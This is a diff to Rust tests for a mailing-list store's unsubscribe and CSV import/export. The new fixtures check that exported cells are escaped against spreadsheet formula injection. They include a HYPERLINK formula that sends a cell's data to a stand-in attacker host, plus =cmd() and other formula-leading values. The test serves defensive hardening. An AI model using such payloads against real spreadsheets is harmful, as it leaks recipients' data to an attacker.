@@ -212,7 +212,17 @@ fn an_import_does_not_resurrect_an_address_that_unsubscribed() {
     let id = store
         .add(&email, None, Status::Confirmed, Source::Form, now())
         .unwrap();
-    store.unsubscribe(id, now()).unwrap();
+    store
+        .unsubscribe(
+            &crate::tokens::Link {
+                subscriber_id: id,
+                nonce: None,
+                issued_at: now(),
+            },
+            &crate::store::Origin::new(crate::store::Channel::OneClick),
+            now(),
+        )
+        .unwrap();
     let rows = parse("email,status\ngone@example.org,confirmed\n");
     let summary = store.import(&rows, now()).unwrap();
     assert_eq!(
@@ -236,7 +246,13 @@ fn an_export_imports_back_into_an_identical_list() {
          ann@example.org,\"Lee, Ann\",confirmed,2024-03-01T12:00:00.25Z\n\
          o'brien@x.org,,pending,\n\
          gone@example.org,=cmd(),unsubscribed,\n\
-         bounced@example.org,Zoë,bounced,\n",
+         bounced@example.org,Zoë,bounced,\n\
+         -minus@example.org,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Click\"\")\",,\n\
+         =eq@example.org,'quoted,,\n\
+         plus@example.org,+1 @home,,\n\
+         at@example.org,@Ann,,\n\
+         dash@example.org,-Ann,,\n\
+         q@example.org,'''=x,,\n",
     );
     source.import(&rows, now()).unwrap();
     let mut exported = Vec::new();
@@ -255,7 +271,19 @@ fn an_export_imports_back_into_an_identical_list() {
     let again = parse_import(text.as_bytes(), OnInvalid::Reject)
         .unwrap()
         .rows;
-    assert_eq!(again.len(), 4);
+    assert_eq!(again.len(), 10);
+    for line in text.lines().skip(1) {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a cell a spreadsheet would run: {line}"
+            );
+        }
+    }
+    assert!(text.contains("'=cmd()"), "{text}");
+    assert!(text.contains("''quoted"), "{text}");
+    assert!(text.contains("'''=x"), "{text}");
     target.import(&again, now()).unwrap();
     let strip = |store: &Store| -> Vec<_> {
         store
